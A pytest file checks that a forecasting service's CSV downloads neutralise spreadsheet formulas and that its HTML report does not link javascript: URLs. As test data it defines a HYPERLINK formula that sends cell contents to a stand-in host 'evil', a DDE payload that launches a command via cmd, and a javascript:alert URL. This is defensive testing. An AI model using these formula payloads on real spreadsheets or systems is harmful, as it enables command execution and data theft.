"""A scenario whose ids are spreadsheet formulas and whose source URL is ``javascript:``: no CSV
download carries a live formula, numbers (negative ones too) stay numbers, and the report links
only http(s) URLs."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from detente.report import safe_csv

from .service_support import wait_for_run

ACTOR = '=HYPERLINK("http://evil/?"&A1)'
ISSUE = "=cmd|' /C calc'!A0"
HOSTILE = (
    (Path(__file__).parent / "data" / "emission.yaml")
    .read_text()
    .replace("id: Netherlands", f"id: '{ACTOR.replace(chr(39), chr(39) * 2)}'")
    .replace("issues: {lag:", f'issues: {{"{ISSUE}":')
    .replace("  - id: lag\n", f'  - id: "{ISSUE}"\n')
    .replace("url: https://doi.org/10.5220/0003121500180030", 'url: "javascript:alert(1)"')
    # A range on the hostile actor's capability, so the sensitivity table names it.
    .replace(
        "capability: {value: 0.08, source: BDM1994}",
        "capability: {low: 0.05, mode: 0.08, high: 0.1}",
        1,
    )
)
LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(client: TestClient) -> int:
    r = client.post(
        "/api/scenarios", content=HOSTILE.encode(), headers={"content-type": "application/yaml"}
    )
    assert r.status_code == 201, r.text
    return int(r.json()["id"])


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    ("kind", "model", "tables"),
    [
        ("forecast", "eum", ["outcome", "rounds"]),
        ("compare", "median,eum", ["outcome"]),
        ("sensitivity", "compromise", ["sensitivity"]),
    ],
)
def test_no_csv_download_carries_a_live_formula(
    client: TestClient, hostile: int, kind: str, model: str, tables: list[str]
) -> None:
    rid = client.post("/api/runs", json={"kind": kind, "scenario": hostile, "model": model}).json()[
        "id"
    ]
    assert wait_for_run(client, rid)["status"] == "done"
    seen: list[str] = []
    for table in tables:
        r = client.get(f"/api/runs/{rid}/result", params={"format": "csv", "table": table})
        assert r.status_code == 200
        live = [c for c in _cells(r.text) if c.startswith(LIVE)]
        assert live == [], f"{table}: {live[:3]}"
        seen += _cells(r.text)
    assert f"'{ISSUE}" in seen  # neutralised, not dropped
    if kind == "sensitivity":
        assert f"'{ACTOR}" in seen


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    frame = pd.DataFrame(
        {"actor": ["-x", "@sum", "-1+2", "\tfoo", "ok"], "effect": [-1.5, -2.0, 3.0, 0.0, -0.25]}
    )
    rows = list(csv.reader(io.StringIO(safe_csv(frame.to_csv(index=False)))))
    assert rows[0] == ["actor", "effect"]
    assert [r[0] for r in rows[1:]] == ["'-x", "'@sum", "'-1+2", "'\tfoo", "ok"]
    assert [float(r[1]) for r in rows[1:]] == [-1.5, -2.0, 3.0, 0.0, -0.25]


def test_the_report_links_only_http_urls(client: TestClient, hostile: int) -> None:
    rid = client.post("/api/runs", json={"kind": "forecast", "scenario": hostile}).json()["id"]
    assert wait_for_run(client, rid)["status"] == "done"
    html = client.get(f"/api/runs/{rid}/report").text
    assert 'href="javascript:' not in html.lower()
    assert "<td>javascript:alert(1)</td>" in html  # shown as text
    builtin = client.post(
        "/api/runs", json={"kind": "forecast", "scenario": "emission-standards-1994"}
    ).json()["id"]
    assert wait_for_run(client, builtin)["status"] == "done"
    report = client.get(f"/api/runs/{builtin}/report").text
    assert '<a href="https://doi.org/10.5220/0003121500180030">' in report
